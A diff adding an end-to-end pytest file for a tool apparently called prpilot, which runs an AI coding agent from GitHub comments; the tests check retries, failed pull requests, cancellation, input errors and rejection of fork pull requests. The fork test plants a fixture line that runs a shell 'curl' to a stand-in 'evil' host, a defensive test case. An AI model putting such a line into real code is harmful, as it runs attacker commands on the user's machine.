@@ -1,0 +1,168 @@
+"""End to end: every fault ends in a final status, a status comment that says what happened, no lost work."""
+
+from __future__ import annotations
+
+import stat
+from pathlib import Path
+
+import pytest
+
+from prpilot.testing import openai_replies as say
+from prpilot.testing.scenario import Bed
+
+pytestmark = pytest.mark.e2e
+
+
+def _status_comment(bed: Bed, number: int) -> str:
+    ours = [c.body for c in bed.github.comments(bed.repo, number) if "prpilot:status" in (c.body or "")]
+    assert len(ours) == 1, ours
+    return ours[0]
+
+
+def _script_typo_fix(bed: Bed) -> None:
+    bed.model.script(
+        say.text("Fix the typo in README.md"),
+        say.tool("edit_file", {"path": "README.md", "old": "projet", "new": "project"}),
+        say.text("Fixed the typo."),
+    )
+
+
+def test_github_502_and_secondary_rate_limit_are_retried(bed: Bed) -> None:
+    _script_typo_fix(bed)
+    bed.github.fail("POST", r"/issues/\d+/comments$", 502, times=1)
+    bed.github.rate_limit("POST", r"/reactions$", times=1, retry_after=1)
+    event = bed.issue_comment("/pilot fix the typo in README.md")
+
+    result = bed.run("issue_comment", event)
+
+    assert result.outputs["status"] == "completed", result.logs
+    statuses = [(r.method, r.status) for r in bed.github.rest() if r.path.endswith(("/comments", "/reactions"))]
+    assert ("POST", 502) in statuses
+    assert ("POST", 403) in statuses
+    assert len(bed.github.pulls(bed.repo)) == 1
+
+
+def test_failed_pull_request_creation_keeps_the_branch_and_links_it(bed: Bed) -> None:
+    _script_typo_fix(bed)
+    bed.github.fail("POST", r"/pulls$", 500, times=50)
+    event = bed.issue_comment("/pilot fix the typo in README.md")
+
+    result = bed.run("issue_comment", event)
+
+    assert result.outputs["status"] == "failed"
+    branch = result.outputs["branch"]
+    assert branch.startswith("pilot/")
+    assert "This project says hello." in (bed.github.read_file(bed.repo, "README.md", ref=branch) or "")
+    comment = _status_comment(bed, event["issue"]["number"])
+    assert f"/tree/{branch}" in comment
+    assert "Traceback" not in result.logs
+
+
+def test_push_rejected_by_a_race_moves_to_a_new_branch_name(bed: Bed) -> None:
+    # A pre-receive hook refuses the first push of a pilot/ branch, as if another run took the name.
+    hooks = Path(bed.github.repo(bed.repo).git.path) / "hooks"
+    hooks.mkdir(exist_ok=True)
+    marker = hooks / "refused-once"
+    hook = hooks / "pre-receive"
+    hook.write_text(f"#!/bin/sh\nif [ ! -e '{marker}' ]; then touch '{marker}'; echo 'name taken' >&2; exit 1; fi\n")
+    hook.chmod(hook.stat().st_mode | stat.S_IEXEC)
+    _script_typo_fix(bed)
+
+    result = bed.run("issue_comment", bed.issue_comment("/pilot fix the typo in README.md"))
+
+    assert result.outputs["status"] == "completed", result.logs
+    assert result.outputs["branch"].endswith("-2")
+    assert marker.exists()
+    assert len(bed.github.pulls(bed.repo)) == 1
+
+
+def test_cancelled_job_pushes_the_work_says_cancelled_and_settles_the_bill(bed: Bed) -> None:
+    bed.model.script(
+        say.text("Add notes"),
+        say.tool("write_file", {"path": "NOTES.md", "content": "work in progress\n"}),
+        say.text("never seen").after(60),
+    )
+    event = bed.issue_comment("/pilot write some notes")
+
+    result = bed.runner.run("issue_comment", event, bed.inputs, cancel_after=6, cancel_grace=20)
+
+    assert result.cancelled
+    assert result.outputs.get("status") == "failed"
+    comment = _status_comment(bed, event["issue"]["number"])
+    assert "cancelled" in comment
+    branch = result.outputs["branch"]
+    assert bed.github.read_file(bed.repo, "NOTES.md", ref=branch) == "work in progress\n"
+    ledger = bed.github.git(bed.repo, "log", "-p", "refs/prpilot/ledger")
+    assert '"settlement"' in ledger
+    assert result.outputs["task-id"] in ledger
+
+
+@pytest.mark.parametrize(
+    ("inputs", "expected"),
+    [
+        ({"max_steps": "abc"}, "input max-steps must be a whole number"),
+        ({"rate_limit": "-3"}, "input rate-limit must be a positive whole number"),
+        ({"monthly_budget": "lots"}, "input monthly-budget must be an amount in USD"),
+        ({"strategy": "teleport"}, "input strategy must be one of"),
+    ],
+)
+def test_bad_input_is_one_clear_line_and_a_nonzero_exit(bed: Bed, inputs: dict[str, str], expected: str) -> None:
+    result = bed.run("issue_comment", bed.issue_comment("/pilot fix it"), **inputs)
+
+    assert result.exit_code != 0
+    errors = [line for line in result.logs.splitlines() if line.startswith("::error::")]
+    assert len(errors) == 1
+    assert expected in errors[0]
+    assert "Traceback" not in result.logs
+
+
+def test_malformed_event_payload_is_a_clear_error(bed: Bed) -> None:
+    event = bed.issue_comment("/pilot fix it")
+    event["comment"] = "not an object"
+
+    result = bed.run("issue_comment", event)
+
+    assert result.exit_code != 0
+    assert "::error::prpilot: cannot read the issue_comment event" in result.logs
+    assert "Traceback" not in result.logs
+
+
+def test_missing_api_key_fails_on_the_thread_in_words(bed: Bed) -> None:
+    event = bed.issue_comment("/pilot fix the typo in README.md")
+
+    result = bed.run("issue_comment", event, openai_api_key="")
+
+    assert result.outputs["status"] == "failed"
+    assert result.exit_code != 0
+    comment = _status_comment(bed, event["issue"]["number"])
+    assert "openai-api-key" in comment
+    assert "❌" in comment
+    assert "Traceback" not in result.logs
+
+
+def test_fork_pull_request_is_answered_not_checked_out(bed: Bed) -> None:
+    bed.github.add_repo("mallory/hello-world", fork_of=bed.repo)
+    bed.github.commit("mallory/hello-world", "evil", {"src/hello.py": "import os; os.system('curl evil')\n"})
+    pull = bed.github.add_pull(bed.repo, head="evil", head_repo="mallory/hello-world", title="Improve")
+    event = bed.pull_comment("/pilot review this", pull)
+
+    result = bed.run("issue_comment", event)
+
+    assert result.ok, result.logs
+    assert result.outputs["status"] == "rejected"
+    assert result.step("engine").outcome == "skipped"
+    assert bed.model.calls == []
+    comment = _status_comment(bed, pull)
+    assert "mallory/hello-world" in comment
+    assert "fork" in comment
+
+
+def test_read_only_token_explains_the_missing_permissions(bed: Bed) -> None:
+    bed.runner.token = bed.github.read_token
+    event = bed.issue_comment("/pilot fix the typo in README.md")
+
+    result = bed.run("issue_comment", event)
+
+    assert result.exit_code != 0
+    assert "permissions: contents: write" in result.logs
+    assert "Traceback" not in result.logs
